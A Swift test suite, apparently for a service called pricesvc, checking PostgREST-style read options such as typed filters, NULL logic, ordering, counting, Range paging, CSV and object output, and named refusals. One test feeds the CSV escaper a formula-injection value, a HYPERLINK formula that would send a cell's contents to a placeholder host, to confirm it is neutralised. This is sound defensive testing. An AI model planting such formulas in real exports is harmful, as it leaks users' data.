import PriceHTTPMessage
import PriceJSON
import Testing
@testable import PostgRESTDialect

@Suite("Read options on a function's result, without a database")
struct ReadOptionsTests {
    /// A relation shaped like `price_medians`' result: every column type but boolean.
    static let columns: [ResultColumn] = ([("location_id", .text), ("rate_kind", .text), ("currency", .text), ("median_cents", .integer),
                                          ("reporters", .integer), ("reports", .integer), ("last_reported_at", .timestamptz)] as [(String, ColumnType)])
        .map { ResultColumn(name: $0.0, type: $0.1) }
    static let rows: [[String?]] = [
        ["a", "daily", "EUR", "1100", "3", "3", "2026-11-29 22:00:00+00"],
        ["a", "hourly", "USD", "500", "3", "4", "2026-11-29 21:00:00+00"],
        ["b", "flat", "USD", "2000", "3", "3", "2026-11-28 10:00:00+00"],
        ["b", "hourly", "EUR", "300", "4", "4", nil],
    ]

    func options(_ query: [(String, String)], headers: [String: String] = [:], method: String = "POST",
                 isRead: Bool = false) -> Result<(ReadOptions, arguments: [(String, String)]), APIError> {
        let request = HTTPRequest(method: method, path: "/rest/v1/rpc/price_medians", headers: headers)
        return ReadOptions.parse(query: query.map { (name: $0.0, value: $0.1) }, headers: request,
                                 columns: Self.columns, relation: "price_medians", isRead: isRead)
    }

    func render(_ query: [(String, String)], headers: [String: String] = [:]) throws -> HTTPResponse {
        let parsed = try options(query, headers: headers).get().0
        return parsed.render(ResultSet(columns: Self.columns, rows: Self.rows))
    }

    func json(_ response: HTTPResponse) throws -> JSONValue {
        try JSONValue.parse(response.body, maxBytes: 1 << 20)
    }

    func error(_ query: [(String, String)], headers: [String: String] = [:]) -> APIError? {
        if case .failure(let error) = options(query, headers: headers) { return error }
        return nil
    }

    @Test("filters are typed per column: integers by value, text by code point, timestamps by instant")
    func typedFilters() throws {
        let cheap = try json(render([("median_cents", "lt.600")])).arrayValue ?? []
        #expect(cheap.map { $0["median_cents"] } == [500, 300])
        let late = try json(render([("last_reported_at", "gte.2026-11-29T22:00:00+01:00")])).arrayValue ?? []
        #expect(late.count == 2, "21:00 UTC is 22:00+01:00")
        let listed = try json(render([("rate_kind", "in.(flat,\"hourly\")"), ("currency", "neq.EUR")])).arrayValue ?? []
        #expect(listed.map { $0["rate_kind"] } == ["hourly", "flat"])
    }

    @Test("NULL follows SQL: comparisons with it are unknown, not. of unknown stays unknown, is.null finds it")
    func nullLogic() throws {
        #expect(try json(render([("last_reported_at", "not.lt.2000-01-01")])).arrayValue?.count == 3)
        #expect(try json(render([("last_reported_at", "is.null")])).arrayValue?.count == 1)
        #expect(try json(render([("last_reported_at", "not.is.null")])).arrayValue?.count == 3)
    }

    @Test("order: several terms, desc puts NULL first as PostgreSQL does, nullslast overrides")
    func ordering() throws {
        let rows = try json(render([("order", "currency.desc,median_cents")])).arrayValue ?? []
        #expect(rows.map { $0["median_cents"] } == [500, 2000, 300, 1100])
        let nullsFirst = try json(render([("order", "last_reported_at.desc")])).arrayValue ?? []
        #expect(nullsFirst.first?["last_reported_at"] == .null)
        let nullsLast = try json(render([("order", "last_reported_at.desc.nullslast")])).arrayValue ?? []
        #expect(nullsLast.last?["last_reported_at"] == .null)
    }

    @Test("select names and renames columns; timestamps are written as to_json writes them")
    func selecting() throws {
        let response = try render([("select", "kind:rate_kind, last_reported_at"), ("limit", "1")])
        #expect(String(decoding: response.body, as: UTF8.self)
                == #"[{"kind":"daily","last_reported_at":"2026-11-29T22:00:00+00:00"}]"#)
        #expect(response.header("Content-Range") == "0-0/*")
    }

    @Test("count=exact: the total in Content-Range, 206 for part of it, 416 past its end")
    func counting() throws {
        let page = try render([("offset", "1"), ("limit", "2")], headers: ["prefer": "count=exact"])
        #expect(page.status == 206)
        #expect(page.header("Content-Range") == "1-2/4")
        let all = try render([], headers: ["prefer": "count=exact"])
        #expect(all.status == 200 && all.header("Content-Range") == "0-3/4")
        let beyond = try render([("offset", "5")], headers: ["prefer": "count=exact"])
        #expect(beyond.status == 416)
        let atEnd = try render([("offset", "4")], headers: ["prefer": "count=exact"])
        #expect(atEnd.status == 206 && atEnd.header("Content-Range") == "*/4")
        let uncounted = try render([("offset", "5")])
        #expect(uncounted.status == 200 && uncounted.header("Content-Range") == "*/*")
    }

    @Test("the Range header pages the GET form only, intersected with limit and offset")
    func rangeHeader() throws {
        let get = try options([("limit", "10")], headers: ["range": "1-2"], method: "GET", isRead: true).get().0
        #expect(get.range.lower == 1 && get.range.upper == 2)
        let post = try options([], headers: ["range": "1-2"]).get().0
        #expect(post.range.lower == 0 && post.range.upper == nil)
        #expect(error([], headers: ["range": "3-1"]) == nil, "ignored on POST")
        let backwards = options([], headers: ["range": "3-1"], method: "GET", isRead: true)
        guard case .failure(let refused) = backwards else { Issue.record("expected 416"); return }
        #expect(refused.status == 416 && refused.code == "PGRST103")
    }

    @Test("a single object needs exactly one row; CSV quotes as PostgreSQL's record output does")
    func formats() throws {
        let one = try render([("rate_kind", "eq.flat")], headers: ["accept": "application/vnd.pgrst.object+json"])
        let object = try json(one)
        #expect(one.status == 200 && object["median_cents"] == 2000)
        #expect(one.header("Content-Type") == "application/vnd.pgrst.object+json; charset=utf-8")
        let many = try render([], headers: ["accept": "application/vnd.pgrst.object+json"])
        let refusal = try json(many)
        #expect(many.status == 406 && refusal["details"] == "The result contains 4 rows")
        let csv = try render([("select", "location_id,last_reported_at"), ("limit", "1")], headers: ["accept": "text/csv"])
        #expect(String(decoding: csv.body, as: UTF8.self) == "location_id,last_reported_at\na,\"2026-11-29 22:00:00+00\"")
        #expect(ReadOptions.csvField("") == "\"\"")
        #expect(ReadOptions.csvField(#"say "hi", \o/"#) == #""say ""hi"", \\o/""#)
        #expect(ReadOptions.csvField("plain") == "plain")
        // Formula injection (OWASP): a leading = + - @ tab or CR is neutralised with a quote mark.
        #expect(ReadOptions.csvField(#"=HYPERLINK("http://x/"&A1,"open")"#) == #""'=HYPERLINK(""http://x/""&A1,""open"")""#)
        #expect(ReadOptions.csvField("+1") == "'+1")
        #expect(ReadOptions.csvField("-2") == "'-2")
        #expect(ReadOptions.csvField("@SUM(A1)") == "\"'@SUM(A1)\"")
        #expect(ReadOptions.csvField("\tx") == "\"'\tx\"")
        #expect(ReadOptions.csvField("\rx") == "\"'\rx\"")
        #expect(ReadOptions.csvField("a=b") == "a=b")
    }

    @Test("in the GET form a value that is no operator expression is a function argument")
    func getFormSplitsArgumentsFromFilters() throws {
        let (parsed, arguments) = try options([("location_ids", "{a,b}"), ("currency", "eq.EUR"), ("rate_kind", "daily")],
                                              method: "GET", isRead: true).get()
        #expect(arguments.map(\.0) == ["location_ids", "rate_kind"])
        #expect(parsed.filters.count == 1)
        #expect(error([("currency", "EUR")])?.code == "PGRST100", "in the POST form it is a malformed filter")
    }

    @Test("what pricesvc does not implement is refused by name, never ignored")
    func refusals() {
        let cases: [([(String, String)], [String: String], String)] = [
            ([("currency", "like.E*")], [:], "PGRST127"),
            ([("currency", "not.ilike.E*")], [:], "PGRST127"),
            ([("currency", "eq(all).{EUR}")], [:], "PGRST127"),
            ([("currency", "cs.{EUR}")], [:], "PGRST127"),
            ([("or", "(a.eq.1)")], [:], "PGRST127"),
            ([("select", "x:rate_kind::text")], [:], "PGRST127"),
            ([("select", "other(*)")], [:], "PGRST200"),
            ([("select", "median_cents.sum()")], [:], "PGRST123"),
            ([("other.limit", "1")], [:], "PGRST108"),
            ([("currency", "in.EUR")], [:], "PGRST100"),
            ([("currency", "not.EUR")], [:], "PGRST100"),
            ([("currency", "is.nothing")], [:], "PGRST100"),
            ([("nope", "eq.1")], [:], "42703"),
            ([("median_cents", "in.(1,x)")], [:], "22P02"),
            ([], ["prefer": "count=planned"], "PGRST122"),
            ([], ["prefer": ","], "PGRST122"),
            ([], ["prefer": "count=exact,"], "PGRST122"),
            ([], ["prefer": "count=exact, ,return=representation"], "PGRST122"),
            ([], ["accept": "application/geo+json"], "PGRST107"),
        ]
        for (query, headers, code) in cases {
            #expect(error(query, headers: headers)?.code == code, "\(query) \(headers)")
        }
    }

    @Test("PostgREST's operator grammar: which values are operator expressions")
    func operatorGrammar() {
        #expect(ReadOptions.parseOperator("eq.5") == .compare(.eq, "5", negated: false))
        #expect(ReadOptions.parseOperator("not.gte.5") == .compare(.gte, "5", negated: true))
        #expect(ReadOptions.parseOperator("eq.a.b") == .compare(.eq, "a.b", negated: false))
        #expect(ReadOptions.parseOperator("is.NULL") == .isNull(true, negated: false))
        #expect(ReadOptions.parseOperator("hourly") == nil)
        #expect(ReadOptions.parseOperator("sfmta:garage-1") == nil)
        #expect(ReadOptions.parseOperator("{a,b}") == nil)
        #expect(ReadOptions.parseOperator("equal.5") == nil)
        #expect(ReadOptions.listItems(#"("a,b", c ,"d\"e")"#) == ["a,b", " c ", "d\"e"])
        #expect(ReadOptions.listItems("()") == [])
        #expect(ReadOptions.listItems("(a") == nil)
    }

    @Test("a function whose columns changed is a 500, never a misread row")
    func columnMismatch() throws {
        let parsed = try options([]).get().0
        let response = parsed.render(ResultSet(columns: Self.columns, rows: [["a", "b"]]))
        #expect(response.status == 500)
    }
}

@Suite("Operator syntax is read by Unicode scalar")
struct OperatorScalarTests {
    @Test("a combining mark after ( or . does not hide it")
    func combiningMarks() {
        #expect(ReadOptions.parseOperator("in.(\u{11A34}s,n)") == .list(["\u{11A34}s", "n"], negated: false))
        #expect(ReadOptions.parseOperator("eq.\u{0301}x") == .compare(.eq, "\u{0301}x", negated: false))
    }
}
